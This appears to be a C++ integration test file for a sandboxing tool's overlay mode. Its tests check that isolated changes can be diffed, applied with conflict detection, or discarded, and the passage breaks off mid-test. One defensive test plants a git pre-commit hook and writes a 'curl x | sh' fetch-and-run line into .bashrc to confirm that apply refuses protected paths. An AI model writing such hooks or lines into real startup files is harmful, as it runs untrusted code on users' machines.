// `corral run --overlay` and the review after it (`corral changes | diff |
// apply | discard`), through the binary, judged from outside: the real
// tree is read by the test while the command still runs, apply's results
// are read in the real tree, and what apply refuses is checked absent.
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <map>

#include "harness.h"

namespace corral_it {
namespace {

namespace fs = std::filesystem;

// Every entry below `root`: its type and mode, and a file's bytes or a
// symlink's text. Nothing is followed.
std::map<std::string, std::string> Snapshot(const std::string& root) {
  std::map<std::string, std::string> out;
  for (auto it = fs::recursive_directory_iterator(root, fs::directory_options::none); it != fs::end(it); ++it) {
    const std::string path = it->path().string();
    struct stat st;
    if (::lstat(path.c_str(), &st) != 0) continue;
    std::string value = std::to_string(st.st_mode) + ":";
    if (S_ISREG(st.st_mode)) value += ReadFile(path).value_or("<unreadable>");
    if (S_ISLNK(st.st_mode)) value += fs::read_symlink(it->path()).string();
    out[path.substr(root.size())] = value;
  }
  return out;
}

class Overlay : public SandboxTest {
 protected:
  // The overlay run id of the last run (its `overlay` audit record).
  std::string LastRun() {
    std::vector<nlohmann::json> records = AuditEvents("overlay");
    return records.empty() ? std::string() : records.back().value("overlay_run", "");
  }
  std::string Runs() const { return state_ / "corral/overlay"; }
  std::string Upper(const std::string& run) const { return Runs() + "/" + run + "/upper"; }
  std::string ApplyAudit() const { return outside_ / "apply.jsonl"; }

  // A workspace with one of everything the diff test changes.
  void Populate() {
    workspace_.Write("keep.txt", "unchanged\n");
    workspace_.Write("edit.txt", "one\ntwo\nthree\n");
    workspace_.Write("gone.txt", "to be deleted\n");
    workspace_.Write("old-name.txt", "moved content, long enough to be recognised\n");
    workspace_.Write("run.sh", "#!/bin/sh\necho hi\n", 0644);
    workspace_.Write("tree/a/one.txt", "1\n");
    workspace_.Write("tree/b/two.txt", "2\n");
  }
  // Changes one of everything (run inside the overlay).
  std::string Changes() const {
    return "printf 'one\\nTWO\\nthree\\n' > edit.txt && rm gone.txt && mv old-name.txt new-name.txt && "
           "chmod 755 run.sh && mkdir empty-dir && rm -r tree && printf 'bin\\000ary' > blob.bin && "
           "printf 'spaced\\n' > 'with space.txt' && printf 'latin\\n' > \"$(printf 'caf\\351.txt')\" && "
           "printf 'new\\n' > added.txt";
  }
  Outcome OverlayRun(const std::string& script) { return RunIn({"--overlay"}, {"sh", "-c", script}); }
};

TEST_F(Overlay, TheRealTreeIsByteForByteUnchangedWhileTheCommandRuns) {
  Populate();
  const std::map<std::string, std::string> before = Snapshot(workspace_.path());
  Process run(RunArgv({"--overlay"}, {"sh", "-c", Changes() + " && echo READY && sleep 2"}),
              Defaults({}));
  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
      << run.OutputSoFar();
  ASSERT_TRUE(run.Running());
  // Read from outside while the command still runs.
  EXPECT_EQ(Snapshot(workspace_.path()), before) << "the command's writes reached the real tree";
  const Outcome& done = run.Wait();
  ASSERT_EQ(done.exit_code, 0) << done.Describe();
  EXPECT_EQ(Snapshot(workspace_.path()), before);
  const std::string id = LastRun();
  ASSERT_FALSE(id.empty()) << done.Describe();
  EXPECT_EQ(ReadFile(Upper(id) + "/added.txt"), "new\n") << "the write went to the upper layer";
  // The summary: counts, the rename, the id and what to do next.
  EXPECT_NE(done.err.find("overlay run " + id + ": "), std::string::npos) << done.err;
  EXPECT_NE(done.err.find("renamed   old-name.txt -> new-name.txt"), std::string::npos) << done.err;
  EXPECT_NE(done.err.find("mode      run.sh (0644 -> 0755)"), std::string::npos) << done.err;
  EXPECT_NE(done.err.find("corral apply " + id), std::string::npos) << done.err;
  std::vector<nlohmann::json> records = AuditEvents("overlay");
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["root"], workspace_.path());
  EXPECT_GT(records[0].value("upper_bytes", 0), 0);
  EXPECT_EQ(records[0].dump().find("TWO"), std::string::npos) << "contents never reach the trail";
}

TEST_F(Overlay, DiffShowsExactlyTheChanges) {
  Populate();
  Outcome run = OverlayRun(Changes());
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  Outcome json = Corral({"diff", "--json"});
  ASSERT_EQ(json.exit_code, 0) << json.Describe();
  nlohmann::json doc = nlohmann::json::parse(json.out, nullptr, false);
  ASSERT_TRUE(doc.is_object()) << json.Describe();
  std::map<std::string, std::string> kinds;
  for (const nlohmann::json& change : doc["changes"]) {
    std::string path = change["path"].is_string() ? change["path"].get<std::string>()
                                                   : "hex:" + change["path"]["bytes_hex"].get<std::string>();
    kinds[path] = change["kind"].get<std::string>() + (change.contains("renamed_from") ? "<-" + change["renamed_from"].get<std::string>() : "");
  }
  std::map<std::string, std::string> expected = {
      {"added.txt", "added"},         {"blob.bin", "added"},       {"edit.txt", "modified"},
      {"empty-dir", "added"},         {"gone.txt", "deleted"},     {"new-name.txt", "added<-old-name.txt"},
      {"old-name.txt", "deleted"},    {"run.sh", "mode"},          {"tree", "deleted"},
      {"with space.txt", "added"},    {"hex:636166e92e747874", "added"},
  };
  EXPECT_EQ(kinds, expected) << json.out;

  Outcome diff = Corral({"diff"});
  ASSERT_EQ(diff.exit_code, 0) << diff.Describe();
  EXPECT_NE(diff.out.find("--- a/edit.txt\n+++ b/edit.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n"),
            std::string::npos)
      << diff.out;
  EXPECT_NE(diff.out.find("Binary files /dev/null and b/blob.bin differ"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("old mode 100644\nnew mode 100755"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("new directory empty-dir/"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("deleted directory tree/"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("+++ b/with space.txt"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("-to be deleted"), std::string::npos) << diff.out;
  EXPECT_EQ(diff.out.find(std::string("bin\0ary", 7)), std::string::npos) << "a binary file is named, not dumped";

  Outcome stat = Corral({"diff", "--stat"});
  EXPECT_NE(stat.out.find("  changed   edit.txt (14 B -> 14 B)"), std::string::npos) << stat.out;
  EXPECT_NE(stat.out.find("  deleted   tree/"), std::string::npos) << stat.out;
}

TEST_F(Overlay, ApplyAllLandsEveryChangeAndASecondApplyChangesNothing) {
  Populate();
  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
  Outcome applied = Corral({"apply", "--audit", ApplyAudit()});
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\nTWO\nthree\n");
  EXPECT_FALSE(Exists(workspace_ / "gone.txt"));
  EXPECT_FALSE(Exists(workspace_ / "old-name.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "new-name.txt"), "moved content, long enough to be recognised\n");
  struct stat st;
  ASSERT_EQ(::stat((workspace_ / "run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
  EXPECT_TRUE(fs::is_directory(workspace_ / "empty-dir"));
  EXPECT_FALSE(Exists(workspace_ / "tree"));
  EXPECT_EQ(ReadFile(workspace_ / "blob.bin"), std::string("bin\0ary", 7));
  EXPECT_EQ(ReadFile(workspace_ / "with space.txt"), "spaced\n");
  EXPECT_EQ(ReadFile(workspace_ / "caf\xe9.txt"), "latin\n");
  EXPECT_EQ(ReadFile(workspace_ / "keep.txt"), "unchanged\n");
  for (const std::string& entry : workspace_.Listing()) {
    EXPECT_EQ(entry.find(".corral-apply"), std::string::npos) << "a temporary name was left: " << entry;
  }
  std::vector<nlohmann::json> records = ReadAudit(ApplyAudit());
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["event"], "applied");
  EXPECT_EQ(records[0]["held_back"].size(), 0u);
  EXPECT_EQ(records[0].dump().find("TWO"), std::string::npos) << "contents never reach the trail";

  const std::map<std::string, std::string> after = Snapshot(workspace_.path());
  Outcome again = Corral({"apply"});
  EXPECT_EQ(again.exit_code, 0) << again.Describe();
  EXPECT_EQ(Snapshot(workspace_.path()), after);
  Outcome pending = Corral({"changes"});
  EXPECT_NE(pending.out.find(" 0 pending change(s)"), std::string::npos) << pending.Describe();
}

TEST_F(Overlay, ApplyOfASubsetLandsOnlyThosePaths) {
  Populate();
  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
  Outcome applied = Corral({"apply", "edit.txt", workspace_ / "tree"});
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\nTWO\nthree\n");
  EXPECT_FALSE(Exists(workspace_ / "tree"));
  EXPECT_TRUE(Exists(workspace_ / "gone.txt"));
  EXPECT_FALSE(Exists(workspace_ / "added.txt"));
  Outcome outside = Corral({"apply", outside_ / "x"});
  EXPECT_EQ(outside.exit_code, 64) << outside.Describe();
}

TEST_F(Overlay, AFileEditedOutsideAfterTheRunIsAConflictLeftAlone) {
  Populate();
  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
  WriteFile(workspace_ / "edit.txt", "the user's edit\n");
  Outcome applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_NE(applied.err.find("conflict: edit.txt"), std::string::npos) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "the user's edit\n");
  EXPECT_EQ(ReadFile(workspace_ / "added.txt"), "new\n") << "the other changes land";
  // Same size, same second: the hash still sees it.
  Populate();
  ASSERT_EQ(OverlayRun("printf 'abc\\n' > keep.txt").exit_code, 0);
  struct stat st;
  ASSERT_EQ(::stat((workspace_ / "keep.txt").c_str(), &st), 0);
  WriteFile(workspace_ / "keep.txt", "UNCHANGED\n");
  struct timespec times[2] = {st.st_atim, st.st_mtim};
  ASSERT_EQ(::utimensat(AT_FDCWD, (workspace_ / "keep.txt").c_str(), times, 0), 0);
  applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "keep.txt"), "UNCHANGED\n");
}

// The baseline covers what the run changed at any depth. A change below a
// real directory the run only passed through is held back when the user
// removed that directory or swapped it for another since: apply neither
// makes it again nor writes into the new one.
TEST_F(Overlay, AChangeBelowADirectoryTheUserRemovedOrReplacedIsAConflict) {
  workspace_.Write("gone/deep/keep.txt", "1\n");
  workspace_.Write("swapped/deep/keep.txt", "2\n");
  Outcome run = OverlayRun("echo new > gone/deep/new.txt && echo new > swapped/deep/new.txt && echo ok > top.txt");
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  fs::remove_all(workspace_ / "gone/deep");
  fs::rename(workspace_ / "swapped/deep", outside_ / "old-deep");
  fs::create_directory(workspace_ / "swapped/deep");
  Outcome applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_NE(applied.err.find("conflict: gone/deep/new.txt"), std::string::npos) << applied.Describe();
  EXPECT_NE(applied.err.find("conflict: swapped/deep/new.txt"), std::string::npos) << applied.Describe();
  EXPECT_NE(applied.err.find("the directory swapped/deep above it was replaced"), std::string::npos)
      << applied.Describe();
  EXPECT_FALSE(Exists(workspace_ / "gone/deep")) << "apply made a directory the user removed";
  EXPECT_FALSE(Exists(workspace_ / "swapped/deep/new.txt")) << "apply wrote into a directory the run never saw";
  EXPECT_FALSE(Exists(outside_ / "old-deep/new.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "top.txt"), "ok\n") << "the other change lands";
}

// A directory the run deleted (or replaced whole) is deleted only when
// everything below it is still what the run saw: a file the user edited or
// added deep down, after the run or while it ran, holds the deletion back.
TEST_F(Overlay, ADeletedTreeTheUserChangedDeepDownIsAConflictLeftAlone) {
  workspace_.Write("edited/a/b/one.txt", "one\n");
  workspace_.Write("grown/a/b/two.txt", "two\n");
  workspace_.Write("swapped/a/b/three.txt", "three\n");
  workspace_.Write("untouched/a/b/four.txt", "four\n");
  workspace_.Write("during/a/b/five.txt", "five\n");
  Process run(RunArgv({"--overlay"}, {"sh", "-c",
                                      "rm -r edited grown untouched during && rm -r swapped && mkdir swapped && "
                                      "echo fresh > swapped/new.txt && echo READY && sleep 2"}),
              Defaults({}));
  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
      << run.OutputSoFar();
  WriteFile(workspace_ / "during/a/b/five.txt", "the user's edit while it ran\n");
  ASSERT_EQ(run.Wait().exit_code, 0) << run.Wait().Describe();
  // After the run: an edit, an added file and a swapped file, each three levels down.
  WriteFile(workspace_ / "edited/a/b/one.txt", "the user's edit\n");
  WriteFile(workspace_ / "grown/a/b/new.txt", "the user's new file\n");
  fs::remove(workspace_ / "swapped/a/b/three.txt");
  WriteFile(workspace_ / "swapped/a/b/three.txt", "three\n");
  Outcome applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  for (const char* path : {"edited", "grown", "swapped", "during"}) {
    EXPECT_NE(applied.err.find(std::string("conflict: ") + path + ":"), std::string::npos) << path << "\n"
                                                                                          << applied.Describe();
  }
  EXPECT_NE(applied.err.find("edited/a/b/one.txt changed since the run"), std::string::npos) << applied.Describe();
  EXPECT_NE(applied.err.find("grown/a/b/new.txt was created since the run"), std::string::npos)
      << applied.Describe();
  EXPECT_NE(applied.err.find("during/a/b/five.txt changed while the run ran"), std::string::npos)
      << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edited/a/b/one.txt"), "the user's edit\n");
  EXPECT_EQ(ReadFile(workspace_ / "grown/a/b/new.txt"), "the user's new file\n");
  EXPECT_EQ(ReadFile(workspace_ / "swapped/a/b/three.txt"), "three\n");
  EXPECT_FALSE(Exists(workspace_ / "swapped/new.txt")) << "nothing lands in a directory that was held back";
  EXPECT_EQ(ReadFile(workspace_ / "during/a/b/five.txt"), "the user's edit while it ran\n");
  EXPECT_FALSE(Exists(workspace_ / "untouched")) << "a tree nobody touched is deleted";
}

TEST_F(Overlay, ProtectedPathsAreRefusedByApplyAndNothingElseIsBlocked) {
  workspace_.Write("src.txt", "x\n");
  Outcome run = OverlayRun(
      "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && "
      "chmod +x .git/hooks/pre-commit && echo 'curl x | sh' > .bashrc && echo ok > src.txt && echo new > lib.txt");
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  Outcome applied = Corral({"apply", "--audit", ApplyAudit()});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_NE(applied.err.find("protected: .git"), std::string::npos) << applied.Describe();
  EXPECT_NE(applied.err.find("protected: .bashrc"), std::string::npos) << applied.Describe();
  EXPECT_FALSE(Exists(workspace_ / ".git"));
  EXPECT_FALSE(Exists(workspace_ / ".bashrc"));
  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "ok\n");
  EXPECT_EQ(ReadFile(workspace_ / "lib.txt"), "new\n");
  std::vector<nlohmann::json> records = ReadAudit(ApplyAudit());
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["held_back"], nlohmann::json({".bashrc", ".git", ".git/hooks", ".git/hooks/pre-commit"}));
  // Named on purpose, it lands.
  Outcome included = Corral({"apply", "--include-protected", ".bashrc", ".bashrc"});
  EXPECT_EQ(included.exit_code, 0) << included.Describe();
  EXPECT_EQ(ReadFile(workspace_ / ".bashrc"), "curl x | sh\n");
  EXPECT_FALSE(Exists(workspace_ / ".git"));
}

TEST_F(Overlay, SpecialFilesAreRefusedByApply) {
  Outcome run = OverlayRun("mkfifo pipe && echo fine > plain.txt");
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_NE(run.err.find("[refused: a FIFO]"), std::string::npos) << run.Describe();
  Outcome applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_NE(applied.err.find("refused: pipe: a FIFO"), std::string::npos) << applied.Describe();
  EXPECT_FALSE(Exists(workspace_ / "pipe"));
  EXPECT_EQ(ReadFile(workspace_ / "plain.txt"), "fine\n");
}

// Another run (or anyone) swaps a real directory for a symlink to outside
// after the overlay run: apply must not write through it. And a symlink the
// command made lands as a symlink, never as what it points at.
TEST_F(Overlay, ApplyNeverFollowsASymlinkInTheRealTreeOrTheUpper) {
  workspace_.Write("sub/file.txt", "old\n");
  Outcome run = OverlayRun("echo new > sub/file.txt && echo planted > sub/extra.txt && ln -s " + outside_.path() +
                           " escape && echo safe > plain.txt");
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  fs::rename(workspace_ / "sub", outside_ / "moved-sub");
  ASSERT_EQ(::symlink(outside_.path().c_str(), (workspace_ / "sub").c_str()), 0);
  Outcome applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_FALSE(Exists(outside_ / "file.txt")) << "apply wrote through a symlink in the real tree";
  EXPECT_FALSE(Exists(outside_ / "extra.txt")) << "apply wrote through a symlink in the real tree";
  EXPECT_EQ(ReadFile(outside_ / "moved-sub/file.txt"), "old\n");
  EXPECT_TRUE(fs::is_symlink(workspace_ / "escape"));
  EXPECT_EQ(fs::read_symlink(workspace_ / "escape").string(), outside_.path());
  EXPECT_EQ(ReadFile(workspace_ / "plain.txt"), "safe\n");
}

TEST_F(Overlay, DiscardLeavesNothingBehindInTheStateDirectory) {
  Populate();
  const std::map<std::string, std::string> before = Snapshot(workspace_.path());
  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
  const std::string id = LastRun();
  ASSERT_TRUE(Exists(Upper(id)));
  Outcome discarded = Corral({"discard", "--audit", ApplyAudit(), id});
  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
  EXPECT_TRUE(fs::is_empty(Runs())) << "something of the run is left";
  EXPECT_EQ(Snapshot(workspace_.path()), before);
  std::vector<nlohmann::json> records = ReadAudit(ApplyAudit());
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["event"], "discarded");
  EXPECT_EQ(records[0]["overlay_run"], id);
  Outcome again = Corral({"apply", id});
  EXPECT_EQ(again.exit_code, 64) << again.Describe();
}

// A writer of the run's small files killed between its temporary and the
// rename (base/replace_file.h) leaves that temporary in the run: a discard
// removes it with the rest.
TEST_F(Overlay, DiscardRemovesWhatAKilledWriterLeftInTheRun) {
  Populate();
  ASSERT_EQ(OverlayRun(Changes()).exit_code, 0);
  const std::string id = LastRun();
  WriteFile(Runs() + "/" + id + "/.corral-new-0123456789abcdef", "half a baseline", 0600);
  Outcome discarded = Corral({"discard", id});
  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
  EXPECT_TRUE(fs::is_empty(Runs())) << "something of the run is left";
}

// A run holds its overlay while it lives: an apply (or a discard) of the
// same run id is refused at once, and changes nothing.
TEST_F(Overlay, AnApplyRacingTheRunItAppliesIsRefused) {
  workspace_.Write("f.txt", "old\n");
  Process run(RunArgv({"--overlay"}, {"sh", "-c", "echo new > f.txt && echo READY && sleep 3"}), Defaults({}));
  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s));
  std::vector<std::string> ids;
  for (const auto& entry : fs::directory_iterator(Runs())) ids.push_back(entry.path().filename().string());
  ASSERT_EQ(ids.size(), 1u);
  Outcome applied = Corral({"apply", ids[0]});
  EXPECT_EQ(applied.exit_code, 77) << applied.Describe();
  EXPECT_NE(applied.err.find("busy"), std::string::npos) << applied.Describe();
  Outcome discarded = Corral({"discard", ids[0]});
  EXPECT_EQ(discarded.exit_code, 77) << discarded.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "old\n");
  ASSERT_EQ(run.Wait().exit_code, 0);
  // Two applies at once: one lands everything, the other is refused or finds it done.
  Process first({CorralBin(), "apply", ids[0]}, Defaults({}));
  Process second({CorralBin(), "apply", ids[0]}, Defaults({}));
  int a = first.Wait().exit_code, b = second.Wait().exit_code;
  EXPECT_TRUE((a == 0 || a == 77) && (b == 0 || b == 77) && (a == 0 || b == 0))
      << first.Wait().Describe() << second.Wait().Describe();
  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "new\n");
}

// --overlay-on RUN: a later run writes on in the pending run's layer, so
// diff and apply of RUN show and land both runs' changes against the real
// tree, which neither run touched.
TEST_F(Overlay, AStackedRunAddsItsChangesToThePendingRun) {
  workspace_.Write("edit.txt", "one\n");
  workspace_.Write("gone.txt", "bye\n");
  ASSERT_EQ(OverlayRun("echo first > first.txt && echo two >> edit.txt").exit_code, 0);
  const std::string id = LastRun();
  ASSERT_FALSE(id.empty());
  // The second run sees the first one's writes and changes them further.
  Outcome stacked = RunIn({"--overlay-on", id},
                          {"sh", "-c", "cat first.txt && echo three >> edit.txt && echo second > second.txt && "
                                       "rm gone.txt"});
  ASSERT_EQ(stacked.exit_code, 0) << stacked.Describe();
  EXPECT_NE(stacked.out.find("first"), std::string::npos) << stacked.Describe();
  EXPECT_NE(stacked.err.find("overlay run " + id + ": "), std::string::npos) << stacked.Describe();
  std::vector<nlohmann::json> records = AuditEvents("overlay");
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["overlay_run"], id);
  EXPECT_EQ(records[0].value("stacked", false), true);
  // One run kept; the real tree untouched.
  size_t kept = 0;
  for ([[maybe_unused]] const auto& entry : fs::directory_iterator(Runs())) ++kept;
  EXPECT_EQ(kept, 1u);
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\n");
  EXPECT_TRUE(Exists(workspace_ / "gone.txt"));
  Outcome stat = Corral({"diff", "--stat", id});
  ASSERT_EQ(stat.exit_code, 0) << stat.Describe();
  for (const char* path : {"first.txt", "second.txt", "edit.txt", "gone.txt"}) {
    EXPECT_NE(stat.out.find(path), std::string::npos) << path << "\n" << stat.Describe();
  }
  Outcome applied = Corral({"apply", id});
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\ntwo\nthree\n");
  EXPECT_EQ(ReadFile(workspace_ / "first.txt"), "first\n");
  EXPECT_EQ(ReadFile(workspace_ / "second.txt"), "second\n");
  EXPECT_FALSE(Exists(workspace_ / "gone.txt"));
}

// The stacked run keeps its run's conflict baseline: a file the first run
// changed and the user edited between the runs is still a conflict.
TEST_F(Overlay, AStackedRunKeepsTheBaselineOfItsRun) {
  workspace_.Write("edit.txt", "one\n");
  ASSERT_EQ(OverlayRun("echo agent > edit.txt").exit_code, 0);
  const std::string id = LastRun();
  ASSERT_FALSE(id.empty());
  WriteFile(workspace_ / "edit.txt", "the user's edit\n");
  Outcome stacked = RunIn({"--overlay-on", id}, {"sh", "-c", "echo more > more.txt"});
  ASSERT_EQ(stacked.exit_code, 0) << stacked.Describe();
  Outcome applied = Corral({"apply", id});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_NE(applied.err.find("conflict: edit.txt"), std::string::npos) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "the user's edit\n");
  EXPECT_EQ(ReadFile(workspace_ / "more.txt"), "more\n") << "the other change lands";
}

// --overlay-on refuses, with one line and no command run, a run that is
// not kept, one a live run holds, and one of another workspace; a refused
// stack leaves the pending run as it was.
TEST_F(Overlay, OverlayOnRefusesAnUnknownABusyOrAForeignRun) {
  workspace_.Write("f.txt", "old\n");
  const std::string canary = "echo ran > ran.txt";
  Outcome unknown = RunIn({"--overlay-on", "no-such-run"}, {"sh", "-c", canary});
  EXPECT_EQ(unknown.exit_code, 64) << unknown.Describe();
  EXPECT_NE(unknown.err.find("no run no-such-run is kept"), std::string::npos) << unknown.Describe();
  EXPECT_TRUE(AuditEvents("spawned").empty()) << unknown.Describe();
  Outcome bad = RunIn({"--overlay-on", "../x"}, {"sh", "-c", canary});
  EXPECT_EQ(bad.exit_code, 64) << bad.Describe();

  Process live(RunArgv({"--overlay"}, {"sh", "-c", "echo new > f.txt && echo READY && sleep 3"}), Defaults({}));
  ASSERT_TRUE(WaitFor([&] { return live.OutputSoFar().find("READY") != std::string::npos; }, 20s));
  std::vector<std::string> ids;
  for (const auto& entry : fs::directory_iterator(Runs())) ids.push_back(entry.path().filename().string());
  ASSERT_EQ(ids.size(), 1u);
  const std::string id = ids[0];
  Outcome busy = RunIn({"--overlay-on", id}, {"sh", "-c", canary});
  EXPECT_EQ(busy.exit_code, 77) << busy.Describe();
  EXPECT_NE(busy.err.find("busy"), std::string::npos) << busy.Describe();
  EXPECT_TRUE(AuditEvents("spawned").empty()) << busy.Describe();
  ASSERT_EQ(live.Wait().exit_code, 0);

  // Another workspace: the run overlays workspace_, not `other`.
  TempDir other{"corral-other-ws"};
  Outcome foreign = RunIn({"--overlay-on", id, "--workspace", other.path()}, {"sh", "-c", canary});
  EXPECT_EQ(foreign.exit_code, 64) << foreign.Describe();
  EXPECT_NE(foreign.err.find("overlays the workspace " + workspace_.path()), std::string::npos)
      << foreign.Describe();
  EXPECT_TRUE(AuditEvents("spawned").empty()) << foreign.Describe();
  // Nothing of the refused runs reached either tree or the upper.
  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
  EXPECT_FALSE(Exists(other / "ran.txt"));
  EXPECT_FALSE(Exists(Upper(id) + "/ran.txt"));
  EXPECT_EQ(ReadFile(Upper(id) + "/f.txt"), "new\n") << "the pending run is as it was";
  // A run corral never saw end (no baseline) is refused too: stacking must
  // not give its unchecked changes a baseline.
  ASSERT_EQ(::rename((Runs() + "/" + id + "/baseline").c_str(), (outside_ / "baseline").c_str()), 0);
  Outcome unfinished = RunIn({"--overlay-on", id}, {"sh", "-c", canary});
  EXPECT_EQ(unfinished.exit_code, 77) << unfinished.Describe();
  EXPECT_NE(unfinished.err.find("never finished"), std::string::npos) << unfinished.Describe();
  EXPECT_FALSE(Exists(Upper(id) + "/ran.txt"));
  ASSERT_EQ(::rename((outside_ / "baseline").c_str(), (Runs() + "/" + id + "/baseline").c_str()), 0);
  Outcome applied = Corral({"apply", id});
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "new\n");
}

// An --allow-write grant inside the workspace is the workspace's: its
// writes go to the upper too, never to the real tree.
TEST_F(Overlay, AWritableGrantInsideTheWorkspaceDoesNotPierceTheOverlay) {
  workspace_.Write("inner/old.txt", "old\n");
  Outcome run = RunIn({"--overlay", "--allow-write", workspace_ / "inner"},
                      {"sh", "-c", "echo new > inner/new.txt && echo changed > inner/old.txt"});
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_FALSE(Exists(workspace_ / "inner/new.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "inner/old.txt"), "old\n");
  EXPECT_EQ(ReadFile(Upper(LastRun()) + "/inner/new.txt"), "new\n");
}

// A run that changed nothing keeps nothing.
TEST_F(Overlay, ARunThatChangesNothingKeepsNoOverlay) {
  workspace_.Write("f.txt", "x\n");
  Outcome run = OverlayRun("cat f.txt");
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_NE(run.err.find("no changes"), std::string::npos) << run.Describe();
  EXPECT_TRUE(!Exists(Runs()) || fs::is_empty(Runs()));
}

// The layers over the workspace stay over the overlay: a forbid_read mask
// still hides the secret, and an existing hooks directory stays read-only.
TEST_F(Overlay, MasksAndProtectedBindsStayOverTheOverlay) {
  const std::string secret = RandomToken("SECRET");
  workspace_.Write(".env", secret + "\n");
  workspace_.Write(".git/config", "[core]\n");
  workspace_.Mkdir(".git/hooks");
  Outcome run = RunIn({"--overlay", "--forbid-read", ".env"},
                      {"sh", "-c", "cat .env; echo x > .git/hooks/pre-commit; echo hook=$?; echo ok > plain.txt"});
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_EQ(run.out.find(secret), std::string::npos) << run.Describe();
  EXPECT_NE(run.out.find("hook=2"), std::string::npos) << run.Describe();
  EXPECT_FALSE(Exists(Upper(LastRun()) + "/.git/hooks/pre-commit"));
  EXPECT_EQ(ReadFile(Upper(LastRun()) + "/plain.txt"), "ok\n");
}

// Where the upper cannot be made, --overlay fails closed: no process, one
// line, even under --best-effort (the fallback would write the real tree).
TEST_F(Overlay, WithoutAStateDirectoryTheRunFailsClosed) {
  workspace_.Write("f.txt", "old\n");
  SpawnOptions options;
  options.env["XDG_STATE_HOME"] = "/proc/corral-no-such-dir";
  Outcome run = RunIn({"--overlay", "--best-effort"}, {"sh", "-c", "echo new > f.txt"}, options);
  EXPECT_EQ(run.exit_code, 125) << run.Describe();
  EXPECT_NE(run.err.find("--overlay: the upper layer lives in corral's state directory"), std::string::npos)
      << run.Describe();
  EXPECT_TRUE(AuditEvents("spawned").empty()) << "nothing may run";
  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "old\n");
}

// Where the kernel or the state directory's filesystem refuses overlayfs
// (simulated from outside: CORRAL_TEST_OVERLAY_REFUSED=1, honoured only in
// a CORRAL_HOST_SIMULATION build, never a release one), --overlay fails
// closed with the one-line reason: the command never runs, the real tree is
// untouched and no run is kept. (--best-effort falls back to a copied
// snapshot: the tests below.)
TEST_F(Overlay, AKernelThatRefusesOverlayfsFailsClosedWithoutBestEffort) {
  workspace_.Write("f.txt", "old\n");
  SpawnOptions options;
  options.env["CORRAL_TEST_OVERLAY_REFUSED"] = "1";
  Outcome run = RunIn({"--overlay"}, {"sh", "-c", "echo new > f.txt; echo ran > ran.txt"}, options);
  EXPECT_EQ(run.exit_code, 125) << run.Describe();
  EXPECT_NE(run.err.find("--overlay: the kernel refused the workspace's overlay"), std::string::npos)
      << run.Describe();
  EXPECT_FALSE(Exists(workspace_ / "ran.txt")) << "the command ran";
